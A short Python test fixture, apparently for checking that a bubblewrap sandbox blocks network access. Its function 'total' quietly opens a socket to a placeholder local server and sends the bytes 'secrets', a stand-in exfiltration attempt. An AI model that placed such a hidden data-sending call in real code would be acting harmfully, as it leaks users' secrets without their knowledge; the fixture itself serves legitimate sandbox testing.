"""Sends what it knows to a server that stands for the network outside."""

import socket

STOPPED_BY = "bubblewrap"
BELOW = "failed, reached the network"
TELLS = "OSError"


def total(value):
    try:
        socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=5).sendall(b"secrets")
    except OSError as error:
        raise OSError("no way out") from error
    return value
